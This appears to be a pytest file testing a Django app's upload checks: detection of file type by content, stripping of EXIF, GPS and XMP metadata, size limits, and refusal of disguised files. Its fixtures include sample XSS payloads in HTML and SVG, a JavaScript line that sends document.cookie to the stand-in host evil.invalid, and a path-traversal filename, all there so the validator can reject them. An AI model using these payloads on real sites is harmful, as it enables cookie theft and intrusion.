"""Attachments: the type is judged by content, photos lose their EXIF, limits hold."""

from __future__ import annotations

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.test import override_settings
from PIL import ExifTags, Image

from tests.pdfs import minimal_pdf
from tests.reports.helpers import report_input
from tuntas.core.errors import ValidationFailed
from tuntas.demo.builder import Demo
from tuntas.reports import actions
from tuntas.reports.actions import Actor
from tuntas.reports.models import Attachment, AttachmentKind, Report
from tuntas.reports.uploads import check_upload, check_uploads

PDF = minimal_pdf()


def image_bytes(fmt: str, *, size: tuple[int, int] = (40, 30), exif: bytes | None = None) -> bytes:
    out = io.BytesIO()
    image = Image.new("RGB", size, (200, 40, 40))
    if exif is not None:
        image.save(out, format=fmt, exif=exif)
    else:
        image.save(out, format=fmt)
    return out.getvalue()


def gps_exif() -> bytes:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "KameraWarga"
    exif[ExifTags.Base.Artist] = "Siti Rahmawati"
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "S"
    gps[ExifTags.GPS.GPSLatitude] = (3.0, 0.0, 5.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (114.0, 23.0, 10.0)
    return exif.tobytes()


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/octet-stream")


def has_gps(content: bytes) -> bool:
    with Image.open(io.BytesIO(content)) as image:
        exif = image.getexif()
        return bool(exif.get_ifd(ExifTags.IFD.GPSInfo)) or ExifTags.Base.Make in exif


# --- accepted --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "fmt", "mime"),
    [
        ("foto.png", "PNG", "image/png"),
        ("foto.jpg", "JPEG", "image/jpeg"),
        ("foto.JPEG", "JPEG", "image/jpeg"),
        ("foto.webp", "WEBP", "image/webp"),
    ],
)
def test_real_pictures_are_accepted(name: str, fmt: str, mime: str) -> None:
    checked = check_upload(upload(name, image_bytes(fmt)))
    assert checked.content_type == mime
    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.format == fmt
        assert image.size == (40, 30)


def test_a_real_pdf_is_accepted_and_rewritten() -> None:
    checked = check_upload(upload("surat.pdf", PDF))
    assert checked.content_type == "application/pdf"
    assert checked.content.startswith(b"%PDF-")
    with pikepdf.open(io.BytesIO(checked.content)) as pdf:
        assert len(pdf.pages) == 1


def test_the_uploaded_name_is_not_kept_and_a_path_in_it_does_not_matter() -> None:
    checked = check_upload(upload("../../etc/foto.png", image_bytes("PNG")))
    assert checked.extension == "png"
    assert not hasattr(checked, "name")
    with pytest.raises(ValidationFailed) as refused:
        check_upload(upload("..\\..\\KTP_Siti.exe", image_bytes("PNG")))
    assert "KTP_Siti.exe" in refused.value.errors["attachments"][0]


# --- EXIF --------------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "fmt"), [("lokasi.jpg", "JPEG"), ("lokasi.webp", "WEBP")])
def test_gps_position_is_stripped_from_photos(name: str, fmt: str) -> None:
    original = image_bytes(fmt, exif=gps_exif())
    assert has_gps(original)  # the test photo really carries a position

    checked = check_upload(upload(name, original))

    assert not has_gps(checked.content)
    with Image.open(io.BytesIO(checked.content)) as image:
        assert not image.info.get("exif")
    assert b"KameraWarga" not in checked.content
    assert b"Siti Rahmawati" not in checked.content


def test_stored_attachment_has_no_exif(demo: Demo) -> None:
    original = image_bytes("JPEG", exif=gps_exif())
    files = check_uploads([upload("jalan.jpg", original)])
    data = report_input(demo, attachments=files)

    report = actions.submit_report(data, actor=Actor.reporter(demo.users["warga"])).report

    attachment = Attachment.objects.get(report=report)
    assert attachment.kind == AttachmentKind.EVIDENCE
    assert attachment.content_type == "image/jpeg"
    with attachment.file.open("rb") as stored:
        content = stored.read()
    assert attachment.size == len(content)
    assert not has_gps(content)
    assert b"KameraWarga" not in content
    assert b"Exif" not in content


# --- refused -----------------------------------------------------------------------------

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
JS = b"fetch('https://evil.invalid/?c=' + document.cookie);\n"
ZIP = (
    b"PK\x03\x04\x14\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00"
    b"\x00\x00\x00\x00\x05\x00\x00\x00a.txt"
)
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


def _disguised() -> list[tuple[str, str, bytes]]:
    png = image_bytes("PNG")
    return [
        ("pdf-named-jpg", "foto.jpg", PDF),
        ("png-named-pdf", "surat.pdf", png),
        ("jpeg-named-png", "foto.png", image_bytes("JPEG")),
        ("html-named-png", "foto.png", HTML),
        ("js-named-png", "foto.png", JS),
        ("svg-named-png", "foto.png", SVG),
        ("zip-named-png", "foto.png", ZIP),
        ("exe-named-png", "foto.png", EXE),
        ("exe-named-pdf", "surat.pdf", EXE),
        ("png-without-extension", "foto", png),
        ("png-named-html", "foto.html", png),
        ("truncated-png", "foto.png", png[:60]),
        ("corrupt-png", "foto.png", png[:30] + b"\x00" * 40 + png[70:]),
        ("truncated-jpeg", "foto.jpg", image_bytes("JPEG")[:120]),
    ]


DISGUISED = _disguised()


@pytest.mark.parametrize(
    ("name", "content"), [(n, c) for _i, n, c in DISGUISED], ids=[i for i, _n, _c in DISGUISED]
)
def test_disguised_or_broken_files_are_refused(name: str, content: bytes) -> None:
    with pytest.raises(ValidationFailed) as refused:
        check_upload(upload(name, content), field="photos")
    assert list(refused.value.errors) == ["photos"]
    assert refused.value.errors["photos"][0]


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(ValidationFailed) as refused:
        check_upload(upload("kosong.png", b""))
    assert "kosong" in refused.value.errors["attachments"][0]


@override_settings(TUNTAS_MAX_UPLOAD_BYTES=2048)
def test_an_oversized_file_is_refused() -> None:
    big = image_bytes("PNG", size=(400, 400))
    assert len(big) > 0
    padded = big + b"\x00" * 4096  # PNG with trailing garbage, well over the limit
    with pytest.raises(ValidationFailed) as refused:
        check_upload(upload("besar.png", padded))
    assert "terlalu besar" in refused.value.errors["attachments"][0]


@override_settings(TUNTAS_MAX_UPLOAD_BYTES=2048)
def test_an_oversized_file_is_refused_even_if_it_claims_to_be_small() -> None:
    lying = upload("besar.pdf", PDF + b"%" * 5000)
    lying.size = 10
    with pytest.raises(ValidationFailed) as refused:
        check_upload(lying)
    assert "terlalu besar" in refused.value.errors["attachments"][0]


@override_settings(TUNTAS_MAX_UPLOAD_BYTES=len(PDF))
def test_a_file_exactly_at_the_limit_is_accepted() -> None:
    assert check_upload(upload("pas.pdf", PDF)).content.startswith(b"%PDF-")


def test_a_picture_with_too_many_pixels_is_refused() -> None:
    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, format="PNG")  # small file, 64 megapixels
    with pytest.raises(ValidationFailed) as refused:
        check_upload(upload("raksasa.png", out.getvalue()))
    assert "terlalu besar" in refused.value.errors["attachments"][0]


@override_settings(TUNTAS_MAX_ATTACHMENTS=3)
def test_too_many_files_are_refused() -> None:
    files: list[UploadedFile[bytes]] = [
        upload(f"foto{i}.png", image_bytes("PNG")) for i in range(4)
    ]
    with pytest.raises(ValidationFailed) as refused:
        check_uploads(files, field="photos")
    assert list(refused.value.errors) == ["photos"]
    assert len(check_uploads(files[:3], field="photos")) == 3


def test_one_bad_file_refuses_the_whole_batch() -> None:
    with pytest.raises(ValidationFailed):
        check_uploads([upload("a.png", image_bytes("PNG")), upload("b.png", HTML)])


def test_a_refused_upload_leaves_no_report_behind(demo: Demo) -> None:
    count = Report.objects.count()
    with pytest.raises(ValidationFailed):
        files = check_uploads([upload("a.png", HTML)])
        actions.submit_report(report_input(demo, attachments=files), actor=Actor.reporter(None))
    assert Report.objects.count() == count
    assert not Attachment.objects.exists()


def test_a_rotated_phone_photo_stays_upright_without_its_exif() -> None:
    exif = Image.Exif()
    exif[ExifTags.Base.Orientation] = 6  # stored landscape, shown rotated 90° clockwise
    out = io.BytesIO()
    Image.new("RGB", (40, 20), (10, 120, 10)).save(out, format="JPEG", exif=exif.tobytes())

    checked = check_upload(upload("potret.jpg", out.getvalue()))

    with Image.open(io.BytesIO(checked.content)) as image:
        assert image.size == (20, 40)
        assert ExifTags.Base.Orientation not in image.getexif()


def test_xmp_and_png_text_metadata_are_stripped_too() -> None:
    from PIL import PngImagePlugin

    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
        b'xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="3,0.1S"/>'
        b"</rdf:RDF></x:xmpmeta>"
    )
    jpeg = io.BytesIO()
    Image.new("RGB", (20, 20)).save(jpeg, format="JPEG", xmp=xmp)
    assert b"GPSLatitude" in jpeg.getvalue()
    assert b"GPSLatitude" not in check_upload(upload("a.jpg", jpeg.getvalue())).content

    text = PngImagePlugin.PngInfo()
    text.add_text("Author", "Siti Rahmawati")
    png = io.BytesIO()
    Image.new("RGB", (20, 20)).save(png, format="PNG", pnginfo=text)
    assert b"Siti Rahmawati" in png.getvalue()
    assert b"Siti Rahmawati" not in check_upload(upload("a.png", png.getvalue())).content
